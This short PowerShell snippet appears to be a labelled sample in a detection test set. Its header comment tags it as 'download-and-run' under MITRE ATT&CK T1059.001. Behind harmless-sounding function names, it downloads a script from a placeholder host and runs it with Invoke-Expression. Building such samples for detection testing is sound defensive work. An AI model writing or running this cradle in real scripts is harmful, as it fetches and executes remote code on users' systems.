# expect: download-and-run | source: MITRE ATT&CK T1059.001
function Get-Settings($from) { return (New-Object Net.WebClient).DownloadString($from) }
function Start-Setup { param($what) Invoke-Expression $what }
Start-Setup (Get-Settings 'http://files.example.invalid/settings')
